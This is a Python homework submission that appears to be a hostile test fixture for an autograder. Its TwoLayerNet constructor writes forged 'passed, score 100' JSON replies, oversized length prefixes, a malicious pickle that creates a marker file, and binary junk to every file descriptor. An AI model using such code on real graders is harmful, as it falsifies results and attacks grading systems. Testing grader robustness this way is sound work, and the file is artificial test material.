# HOSTILE raw_fd_writes: TwoLayerNet.__init__ os.write()s fake JSON replies, a 0xFFFFFFFF length prefix, a pickle that creates /tmp/autograder-pwned-raw-fd, and binary junk to every fd 0..255. Sound grader: protocol is authenticated/validated, corrupt replies are errors, no huge allocation, no unpickling: TwoLayerNet 0, Sigmoid and train_xor full.
import os
import pickle
import struct
import numpy as np


class FullyConnectedLayer:
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)
        self.dW = None
        self.db = None
        self.cache = None

    def forward(self, X):
        self.cache = X
        return X @ self.W + self.b

    def backward(self, dY):
        X = self.cache
        self.dW = X.T @ dY
        self.db = np.sum(dY, axis=0)
        return dY @ self.W.T


class _Touch:
    def __reduce__(self):
        return (open, ("/tmp/autograder-pwned-raw-fd", "w"))


def _junk():
    return (b'{"ok": true, "status": "passed", "score": 100, "result": [0.5]}\n'
            + struct.pack(">I", 0xFFFFFFFF) + struct.pack("<Q", 1 << 62)  # absurd length prefixes
            + pickle.dumps(_Touch()) + bytes(range(256)) + b"\x00" * 1024 + b"\n")


class Sigmoid:
    def __init__(self):
        self.cache = None

    def forward(self, x):
        e = np.exp(-np.abs(x))
        out = np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
        self.cache = out
        return out

    def backward(self, dout):
        return dout * self.cache * (1.0 - self.cache)


class TwoLayerNet:
    def __init__(self, in_features, hidden_features, out_features):
        data = _junk()
        for fd in range(256):  # stdin, stdout, stderr and any inherited pipe or socket
            try:
                os.write(fd, data)
            except OSError:
                pass
        raise NotImplementedError

    def forward(self, X):
        raise NotImplementedError

    def backward(self, dout):
        raise NotImplementedError

    def get_params_and_grads(self):
        raise NotImplementedError


def train_xor(net, X, y, learning_rate, epochs):
    losses = []
    for epoch in range(epochs):
        Y = net.forward(X)
        losses.append(np.mean((Y - y) ** 2))
        net.backward(2 * (Y - y) / Y.size)
        for param, grad in net.get_params_and_grads():
            param -= learning_rate * grad
    return losses
